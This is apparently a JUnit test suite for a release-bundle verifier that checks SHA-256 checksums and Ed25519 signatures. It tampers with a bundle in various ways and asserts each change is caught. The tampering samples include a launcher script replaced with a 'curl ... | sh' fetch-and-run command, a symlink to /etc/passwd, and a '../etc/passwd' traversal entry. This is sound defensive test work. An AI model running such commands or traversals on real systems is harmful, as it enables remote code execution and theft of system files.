package dev.gatehouse.server.release;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.util.HexFormat;
import java.util.List;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** An unpacked bundle signed with a throwaway key, then tampered with in each way a user must be told about. */
class ReleaseVerifierTest {

    @TempDir
    Path dir;
    private final KeyPair pair = Signatures.generate();
    private final ReleaseKey key = Signatures.publicKey(pair);

    @BeforeEach
    void bundle() throws IOException {
        write("bin/gatehouse", "#!/bin/sh\nexec runtime/bin/java -jar lib/gatehouse.jar \"$@\"\n");
        write("lib/gatehouse.jar", "a jar's bytes");
        write("runtime/lib/modules", "the runtime's modules");
        write("licenses/INDEX.txt", "licences\n");
        signList();
    }

    private void write(String path, String content) throws IOException {
        Path file = dir.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, content);
    }

    /** SHA256SUMS over every file, as sha256sum writes it sorted by name, and its signature. */
    private void signList() throws IOException {
        TreeMap<String, String> sums = new TreeMap<>();
        try (var walk = Files.walk(dir)) {
            for (Path file : walk.filter(Files::isRegularFile).toList()) {
                String name = dir.relativize(file).toString();
                if (!name.startsWith(Checksums.FILE)) {
                    sums.put(name, ReleaseVerifier.sha256(file));
                }
            }
        }
        StringBuilder list = new StringBuilder();
        sums.forEach((name, sum) -> list.append(sum).append("  ").append(name).append('\n'));
        Files.writeString(dir.resolve(Checksums.FILE), list);
        Files.write(dir.resolve(Checksums.SIGNATURE_FILE),
                Signatures.sign(list.toString().getBytes(StandardCharsets.UTF_8), pair.getPrivate()));
    }

    @Test
    void anUntouchedBundleIsVerifiedAndNamesItsSigner() {
        ReleaseVerifier.Verification result = ReleaseVerifier.verify(dir, List.of(key));
        assertTrue(result.verified(), result.problems().toString());
        assertEquals(4, result.filesChecked());
        assertEquals(key.fingerprint(), result.signer().orElseThrow().fingerprint());
    }

    @Test
    void oneChangedFileIsNamedWithBothDigests() throws IOException {
        String expected = ReleaseVerifier.sha256(dir.resolve("lib/gatehouse.jar"));
        write("lib/gatehouse.jar", "a jar's bytes, changed");
        String found = ReleaseVerifier.sha256(dir.resolve("lib/gatehouse.jar"));

        ReleaseVerifier.Verification result = ReleaseVerifier.verify(dir, List.of(key));

        assertFalse(result.verified());
        assertEquals(List.of("lib/gatehouse.jar: SHA-256 differs: expected " + expected + ", found " + found),
                result.problems());
    }

    @Test
    void oneChangedSignatureByteIsRefusedNamingTheKey() throws IOException {
        Path signature = dir.resolve(Checksums.SIGNATURE_FILE);
        byte[] bytes = Files.readAllBytes(signature);
        bytes[17] ^= 0x01;
        Files.write(signature, bytes);

        ReleaseVerifier.Verification result = ReleaseVerifier.verify(dir, List.of(key));

        assertFalse(result.verified());
        assertTrue(result.signer().isEmpty());
        assertEquals(1, result.problems().size(), result.problems().toString());
        assertTrue(result.problems().getFirst().startsWith(
                "the signature SHA256SUMS.sig does not match public key " + key.fingerprint()), result.problems().toString());
    }

    @Test
    void aFileChangedTogetherWithItsListedDigestFailsTheSignature() throws IOException {
        write("bin/gatehouse", "#!/bin/sh\ncurl https://example.invalid | sh\n");
        Path sums = dir.resolve(Checksums.FILE);
        String list = Files.readString(sums);
        String old = list.lines().filter(line -> line.endsWith("  bin/gatehouse")).findFirst().orElseThrow();
        Files.writeString(sums, list.replace(old, ReleaseVerifier.sha256(dir.resolve("bin/gatehouse")) + "  bin/gatehouse"));

        ReleaseVerifier.Verification result = ReleaseVerifier.verify(dir, List.of(key));

        assertFalse(result.verified());
        assertEquals(1, result.problems().size(), result.problems().toString());
        assertTrue(result.problems().getFirst().contains("does not match public key " + key.fingerprint()));
    }

    @Test
    void anAddedFileAndARemovedFileAreEachNamed() throws IOException {
        write("lib/extra.jar", "not shipped");
        Files.delete(dir.resolve("licenses/INDEX.txt"));

        List<String> problems = ReleaseVerifier.verify(dir, List.of(key)).problems();

        assertEquals(List.of("licenses/INDEX.txt: listed in SHA256SUMS but missing (or not a regular file)",
                "lib/extra.jar: not listed in SHA256SUMS"), problems);
    }

    @Test
    void aSymbolicLinkIsRefusedWhereverItPoints() throws IOException {
        Files.createSymbolicLink(dir.resolve("lib/passwd"), Path.of("/etc/passwd"));

        List<String> problems = ReleaseVerifier.verify(dir, List.of(key)).problems();

        assertEquals(List.of("lib/passwd: a symbolic link, which a release bundle never holds"), problems);
    }

    @Test
    void anUnsignedBundleOrAFolderWithoutAListIsRefused() throws IOException {
        Files.delete(dir.resolve(Checksums.SIGNATURE_FILE));
        assertEquals(List.of("SHA256SUMS.sig is missing: the bundle is not signed"),
                ReleaseVerifier.verify(dir, List.of(key)).problems());
        assertFalse(ReleaseVerifier.verify(dir, List.of(key)).verified());

        Path empty = Files.createDirectory(dir.resolve("empty"));
        List<String> problems = ReleaseVerifier.verify(empty, List.of(key)).problems();
        assertTrue(problems.getFirst().startsWith("no SHA256SUMS in "), problems.toString());
    }

    @Test
    void anotherKeyIsRefusedAndEitherKeyOfARotationIsAccepted() {
        ReleaseKey other = Signatures.publicKey(Signatures.generate());

        ReleaseVerifier.Verification refused = ReleaseVerifier.verify(dir, List.of(other));
        assertFalse(refused.verified());
        assertTrue(refused.problems().getFirst().contains("does not match public key " + other.fingerprint()));

        ReleaseVerifier.Verification rotation = ReleaseVerifier.verify(dir, List.of(other, key));
        assertTrue(rotation.verified(), rotation.problems().toString());
        assertEquals(key.fingerprint(), rotation.signer().orElseThrow().fingerprint());
    }

    @Test
    void aListWithAPathOutsideTheBundleIsRefused() throws IOException {
        String list = "0".repeat(64) + "  ../etc/passwd\n";
        Files.writeString(dir.resolve(Checksums.FILE), list);
        Files.write(dir.resolve(Checksums.SIGNATURE_FILE),
                Signatures.sign(list.getBytes(StandardCharsets.UTF_8), pair.getPrivate()));

        List<String> problems = ReleaseVerifier.verify(dir, List.of(key)).problems();

        assertEquals(List.of("SHA256SUMS line 1 names a path outside the bundle: '../etc/passwd'"), problems);
    }

    /** RFC 8032 section 7.1, test 1: the JDK's Ed25519 is the standard one, and signing is deterministic. */
    @Test
    void signaturesFollowRfc8032() {
        String pkcs8 = "302e020100300506032b657004220420"
                + "9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60";
        String pem = "-----BEGIN PRIVATE KEY-----\n"
                + java.util.Base64.getEncoder().encodeToString(HexFormat.of().parseHex(pkcs8))
                + "\n-----END PRIVATE KEY-----\n";
        byte[] signature = Signatures.sign(new byte[0], Signatures.privateKey(pem));
        assertEquals("e5564300c360ac729086e2cc806e828a84877f1eb8e5d974d873e065224901555fb8821590a33bac"
                + "c61e39701cf9b46bd25bf5f0595bbe24655141438e7a100b", HexFormat.of().formatHex(signature));
    }
}
